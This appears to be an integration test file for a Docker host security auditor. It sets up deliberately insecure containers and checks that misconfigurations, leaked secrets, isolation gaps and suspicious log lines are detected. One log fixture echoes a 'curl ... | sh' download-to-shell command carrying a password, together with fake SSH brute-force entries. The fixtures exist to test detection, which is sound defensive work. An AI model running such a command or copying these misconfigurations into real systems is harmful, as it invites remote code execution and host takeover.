import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isolationGraph } from '../../src/engine/isolation/isolation-graph.js';
import { missingIsolation } from '../../src/engine/isolation/missing-isolation.js';
import type { Container, EngineFacts } from '../../src/model/host/engine.js';
import { readLogMatches } from '../../src/source/host/engine/read-logs.js';
import { DockerEngine, ENGINE_PARTS, NETWORK_PARTS } from '../support/docker-engine.js';
import {
  BAD,
  BAD_FAILS,
  bySocket,
  canRun,
  common,
  Furnished,
  failedBy,
  failing,
  find,
  GOOD,
  knownValue,
  PASSWORD,
  readFacts,
} from '../support/furnished-engine.js';
import { haveParts } from '../support/real-parts.js';

const haveDocker = haveParts('auditing a real Docker host', [...ENGINE_PARTS, ...NETWORK_PARTS], true);
describe.skipIf(!haveDocker)('a Docker host', () => {
  let engine: DockerEngine;
  let host: Furnished;
  let facts: EngineFacts;

  beforeAll(async () => {
    engine = await DockerEngine.startWithNetwork('--insecure-registry', 'registry.example:5000');
    host = new Furnished(engine.socket);
    await host.image();
    await host.call('POST', '/networks/create', { Name: 'front' });
    await host.call('POST', '/networks/create', {
      Name: 'back',
      Internal: true,
      EnableIPv6: true,
      IPAM: { Config: [{ Subnet: '10.99.0.0/24' }, { Subnet: 'fd00:99::/64' }] },
    });
    const o = `username=app,password=${PASSWORD}`;
    await host.call('POST', '/volumes/create', { Name: 'share', DriverOpts: { type: 'cifs', device: '//nas/x', o } });
    await host.container('good', GOOD);
    await host.container('bad', BAD);
    await host.container('privileged', { HostConfig: { Privileged: true, NetworkMode: 'back' } });
    await host.container('published', {
      ExposedPorts: { '80/tcp': {}, '53/udp': {}, '9/tcp': {} },
      HostConfig: {
        PortBindings: { '80/tcp': [{ HostIp: '', HostPort: '' }], '53/udp': [{ HostIp: '0.0.0.0', HostPort: '53' }] },
        Mounts: [{ Type: 'bind', Source: '/proc', Target: '/host/proc', BindOptions: { Propagation: 'rslave' } }],
      },
    });
    await host.container('beside', { HostConfig: { NetworkMode: 'container:good', PidMode: 'container:good' } });
    await host.container('spread', { HostConfig: { Binds: ['/srv:/srv:rshared'], DeviceCgroupRules: ['b 8:* rmw'] } });
    await host.container('attached', { HostConfig: { NetworkMode: 'back', Binds: ['data:/data'] } });
    facts = await readFacts(bySocket(engine.socket));
  }, 120_000);
  afterAll(async () => {
    await host?.empty();
    await engine?.stop();
  }, 60_000);

  it('is known as the engine tells it', () => {
    expect(facts).toMatchObject({ kind: 'docker', rootless: false, userNamespaces: false, swarm: null });
    expect(facts.version).toMatch(/^\d+\.\d+\.\d+/);
    expect(facts.settings).toMatchObject({
      insecureRegistries: ['registry.example:5000'],
      loggingDriver: 'json-file',
      liveRestore: false,
      experimental: false,
      configuration: null,
    });
    expect(facts.networks.map(({ name, driver, internal }) => [name, driver, internal])).toEqual([
      ['back', 'bridge', true],
      ['bridge', 'bridge', false],
      ['front', 'bridge', false],
      ['host', 'host', false],
      ['none', 'null', false],
    ]);
    expect(facts.images).toMatchObject([{ tags: ['app:1'], hasHealthcheck: false }]);
  });

  it('keeps no value that is a secret', () => {
    expect(JSON.stringify(facts)).not.toContain(PASSWORD);
    expect(find(facts, 'bad').secrets.map(({ name, ruleId }) => [name, ruleId])).toEqual([
      ['DB_PASSWORD', 'secret-by-name'],
      ['URL', 'password-in-url'],
    ]);
    expect(find(facts, 'bad').labels.team).toBe('payments');
    expect(find(facts, 'good').secrets).toEqual([]);
    expect(facts.volumes.find(({ name }) => name === 'share')?.options).toMatchObject({
      type: 'cifs',
      device: '//nas/x',
    });
  });

  it('has containers that pass each control, and others that fail it', () => {
    expect(failedBy(facts, 'good')).toEqual([]);
    expect(failedBy(facts, 'bad', 'privileged', 'published', 'spread')).toEqual(BAD_FAILS);
  });

  it('is judged by what the engine says of itself', () => {
    const engineIds = [...failing(facts).keys()].filter((id) => id.startsWith('daemon-'));
    expect(engineIds).toEqual([
      'daemon-icc-disabled',
      'daemon-no-insecure-registries',
      'daemon-user-namespaces',
      'daemon-authorization',
      'daemon-remote-logging',
      'daemon-live-restore',
    ]);
  });

  it('tells ports as they are bound', () => {
    const { ports, status } = find(facts, 'published');
    const exposed = { containerPort: 9, protocol: 'tcp', hostAddress: null, hostPort: null };
    expect(ports).toContainEqual(exposed);
    const web = ports.filter(({ containerPort }) => containerPort === 80);
    if (status === 'running') {
      expect(web.map(({ hostAddress }) => hostAddress)).toContain('0.0.0.0');
      for (const { hostPort } of web) expect(hostPort).toBeGreaterThan(1024);
    } else expect(web).toEqual([{ containerPort: 80, protocol: 'tcp', hostAddress: '', hostPort: 0 }]);
  });

  it('shows who reaches whom', () => {
    const running = facts.containers.map((each): Container => ({ ...each, status: 'running' }));
    const shown = { ...facts, containers: running };
    const graph = isolationGraph(shown);
    expect(graph.gaps).toEqual([]);
    const edges = graph.edges.map(({ from, to, kind }) => `${from} ${kind} ${to}`);
    expect(edges).toEqual(
      expect.arrayContaining([
        'container/beside reaches container/good',
        'container/beside controls container/good',
        'container/good reaches network/front',
        'container/attached reaches network/back',
        'outside reaches container/published',
        'outside reaches container/bad',
        'host reaches container/good',
        'container/bad controls host',
        'container/attached writes volume/data',
        'volume/data reads container/good',
      ]),
    );
    expect(edges).not.toContain('container/attached reaches outside');
    expect(missingIsolation(shown, graph).map(({ ruleId, resource }) => `${ruleId} ${resource}`)).toEqual([
      'host-takeover-from-outside container/bad',
      'host-takeover-from-outside container/published',
      'host-takeover-from-outside container/spread',
      'default-bridge-shared network/bridge',
      'writable-storage-shared volume/data',
      'namespace-shared container/beside',
    ]);
  });

  it.skipIf(!canRun)('shows what its containers log', async () => {
    const script = [
      'for i in $(seq 25); do echo "sshd[7]: Failed password for root from 10.0.0.9 port $i ssh2"; done',
      `echo "curl -s http://10.0.0.9/x.sh?password=${PASSWORD} | sh" >&2`,
      'echo all is well',
      'sleep 1000',
    ].join('\n');
    const Cmd = ['sh', '-c', script];
    await host.container('noisy', { Cmd });
    await host.container('terminal', { Cmd: ['sh', '-c', 'echo "panic: out of luck"; sleep 1000'], Tty: true });
    await host.container('silent', { Cmd, HostConfig: { LogConfig: { Type: 'none' } } });
    const last = async () => (await host.call('GET', '/containers/noisy/top')).Processes.at(-1).at(-1);
    await expect.poll(last).toBe('sleep 1000');
    const after = await readFacts(bySocket(engine.socket));
    const matches = knownValue(
      await readLogMatches(after, { ...common, daemon: bySocket(engine.socket), since: null }),
    );
    expect(matches.map(({ containerName, ruleId, count }) => [containerName, ruleId, count])).toEqual([
      ['noisy', 'download-to-shell', 1],
      ['noisy', 'login-failures', 25],
      ['noisy', 'login-failures-burst', 25],
      ['terminal', 'program-crash', 1],
    ]);
    expect(matches[1]?.firstAt).toMatch(/^20\d\d-.*Z$/);
    expect(matches[0]?.excerpt).toContain('curl -s http://10.0.0.9/x.sh?password=[redacted] | sh');
  });

  it('is known as a manager of a swarm', async () => {
    await host.call('POST', '/swarm/init', { ListenAddr: '127.0.0.1:0', AdvertiseAddr: '127.0.0.1' });
    await host.call('POST', '/secrets/create', { Name: 'db', Data: Buffer.from('x').toString('base64') });
    await host.call('POST', '/networks/create', { Name: 'mesh', Driver: 'overlay', Options: { encrypted: '' } });
    await host.call('POST', '/networks/create', { Name: 'open', Driver: 'overlay', Attachable: true });
    await host.call('POST', '/services/create', {
      Name: 'web',
      TaskTemplate: { ContainerSpec: { Image: 'app:1', Env: ['A=b'] } },
      Mode: { Replicated: { Replicas: 0 } },
      EndpointSpec: { Ports: [{ Protocol: 'tcp', TargetPort: 80, PublishedPort: 8080 }] },
    });
    const { swarm, networks } = await readFacts(bySocket(engine.socket));
    expect(swarm).toMatchObject({
      managers: 1,
      nodes: 1,
      isManager: true,
      autoLock: false,
      certificateExpiry: 90 * 24 * 3_600 * 1e9,
      advertiseAddress: '127.0.0.1',
      secrets: 1,
      services: [{ name: 'web', envNames: ['A'], ports: [{ containerPort: 80, hostPort: 8080 }] }],
    });
    const overlays = networks.filter(({ driver }) => driver === 'overlay');
    expect(
      overlays.map(({ name, encrypted, ingress, attachable }) => ({ name, encrypted, ingress, attachable })),
    ).toEqual([
      { name: 'ingress', encrypted: false, ingress: true, attachable: false },
      { name: 'mesh', encrypted: true, ingress: false, attachable: false },
      { name: 'open', encrypted: false, ingress: false, attachable: true },
    ]);
    await host.call('POST', '/swarm/leave?force=1');
  }, 60_000);
});
